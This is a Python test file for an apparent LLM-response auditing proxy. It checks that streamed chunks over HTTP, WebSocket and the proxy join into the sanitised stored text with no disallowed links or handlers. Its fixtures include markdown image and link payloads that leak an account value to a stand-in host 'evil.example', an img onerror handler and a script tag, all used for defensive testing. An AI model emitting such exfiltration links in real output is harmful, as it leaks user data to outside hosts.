# ruff: noqa: F811  (pytest fixtures imported from tests.audits.api.test_proxy are named as arguments)
"""Every stream way in: the text a client joins from its chunks is the stored cleaned text,
the batch audit of the stored response, and renders no link, image or handler that is not
allowed; random hostile responses, random chunkings (and, through the proxy, paragraphs
longer than redflag `max_chars`, which are cut)."""

from __future__ import annotations

import json
import random
import time

import pytest
from asgiref.sync import async_to_sync
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from analyzers.config_store import load_config, save_config
from analyzers.engine.guardrails.settings import settings_from_config
from analyzers.engine.guardrails.stream import audit_text
from audits.models import AuditRun
from tests.analyzers.engine.rendering import problems
from tests.audits.api.test_proxy import (  # noqa: F401
    MESSAGES,
    SAMPLE_CONFIG,
    client,
    finished,
    key,
    served,
    server,
    upstream,
)
from tests.audits.api.test_stream_endpoint import HEAD, body_messages, call_http, ingest
from tests.proxy_upstream import Completion

pytestmark = pytest.mark.django_db(transaction=True)

ALLOWED = ("www.acme.example", "acme.example")
EVIL = "https://evil.example/pixel.png?leak=ACCOUNT-1234"
PIECES = [
    f"![chart]({EVIL})",
    f"![chart](\n{EVIL})",
    f"[click here](\n{EVIL})",
    f"<{EVIL}>",
    EVIL,
    f'<img src="{EVIL}" onerror="alert(1)">',
    f"<a href='{EVIL}'>docs</a>",
    "Chart: ![chart](",
    f"[ref]: {EVIL}\n\n[docs][ref]",
    "`code`",
    "```\n",
    "Acme is fast to set up.",
    "[the guide](https://www.acme.example/docs)",
    "See https://acme.example/setup now.",
    "word " * 30,
    "<script>alert(1)</script>",
]
SEPARATORS = ["", " ", "\n", "\n\n", "\n    ", "> ", "\n- "]
responses = st.lists(
    st.tuples(st.sampled_from(PIECES), st.sampled_from(SEPARATORS)), min_size=1, max_size=8
).map(lambda parts: "".join(p + s for p, s in parts))
EXAMPLES = settings(
    max_examples=12,
    deadline=None,
    derandomize=True,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture],
)


def chunks(text: str, seed: int) -> list[str]:
    rng = random.Random(seed)
    cuts = sorted(rng.sample(range(len(text) + 1), min(len(text) + 1, rng.randint(0, 12))))
    return [text[a:b] for a, b in zip([0, *cuts], [*cuts, len(text)], strict=True) if b > a]


def check(joined: str, audit_id: str) -> None:
    run = AuditRun.objects.get(pk=audit_id)
    config = load_config()
    assert joined == run.cleaned_response
    assert joined == audit_text(run.response, settings_from_config(config)).cleaned_response
    assert problems(joined, ALLOWED) == [], repr((run.response, joined))


@pytest.fixture
def ingest_key(make_key, settings, transactional_db) -> str:
    settings.CHANNEL_LAYERS = {"default": {"BACKEND": "channels.layers.InMemoryChannelLayer"}}
    save_config(json.loads(SAMPLE_CONFIG.read_text()), actor="test")
    return make_key("ingest")


@EXAMPLES
@given(text=responses, seed=st.integers(0, 1000))
def test_the_http_stream_sends_only_the_audited_text(ingest_key, text, seed):
    lines = [HEAD, *({"text": c} for c in chunks(text, seed))]
    status, events = async_to_sync(call_http)(ingest_key, body_messages(lines))
    assert status == 200
    joined = "".join(d["text"] for name, d in events if name == "chunk")
    check(joined, events[-1][1]["id"])


@EXAMPLES
@given(text=responses, seed=st.integers(0, 1000))
def test_the_websocket_stream_sends_only_the_audited_text(ingest_key, text, seed):
    async def run():
        ws, events = await ingest(ingest_key, chunks(text, seed))
        await ws.disconnect()
        return events

    events = async_to_sync(run)()
    joined = "".join(d["text"] for name, d in events if name == "chunk")
    check(joined, events[-1][1]["id"])


@pytest.fixture
def short_paragraphs(upstream, settings, transactional_db):
    settings.AUDITOR_PROXY_ALLOW_PRIVATE = True
    config = json.loads(SAMPLE_CONFIG.read_text())
    config["proxy"] = {"base_url": upstream.base_url, "timeout_s": 5}
    # The server reloads its configuration on a change id no other test reaches, at most
    # once a second: three saves, then the wait.
    for max_chars in (62, 61, 60):
        config["analyzers"]["redflag"]["max_chars"] = max_chars
        save_config(config, actor="test")
    time.sleep(1.1)


def test_the_proxy_sends_only_the_audited_text_across_cuts(
    server,
    upstream,
    key,
    short_paragraphs,
):
    examples = []

    @EXAMPLES
    @given(text=responses)
    def collect(text):
        examples.append(text)

    collect()
    for text in examples:
        upstream.enqueue(Completion(content=text))
        stream = client(server, key).chat.completions.create(
            model="m", messages=MESSAGES, stream=True
        )
        joined = "".join(c.choices[0].delta.content or "" for c in stream if c.choices)
        run = finished(stream.response.headers["x-auditor-audit-id"])
        check(joined, str(run.pk))
